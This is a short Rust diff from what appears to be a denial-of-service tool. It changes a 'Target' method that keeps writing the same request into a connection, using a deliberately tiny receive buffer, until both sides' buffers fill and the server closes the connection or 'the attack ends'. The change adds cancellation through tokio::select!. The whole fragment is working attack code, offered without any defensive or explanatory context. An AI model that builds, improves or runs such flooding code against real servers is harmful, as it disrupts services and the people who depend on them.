@@ -214,12 +214,18 @@ impl Target {
         // A small window is full soon.
         socket.set_recv_buffer_size(4096)?;
         let mut stream = self.secured(socket.connect(self.address).await?).await?;
-        // Until the buffers of both sides are full, and then until the server has closed the connection.
-        while !self.off.is_cancelled() {
-            stream.write_all(&self.request).await?;
-            stream.flush().await?;
+        // Until the buffers of both sides are full, and then until the server closes the connection or the attack ends.
+        // After that it goes: how long the server takes for what is in the buffers is up to the machine.
+        let fill = async {
+            loop {
+                stream.write_all(&self.request).await?;
+                stream.flush().await?;
+            }
+        };
+        tokio::select! {
+            ended = fill => ended,
+            () = self.off.cancelled() => Ok(()),
         }
-        Ok(())
     }
 
     async fn trusted(&self, from: Ipv4Addr) -> std::io::Result<()> {
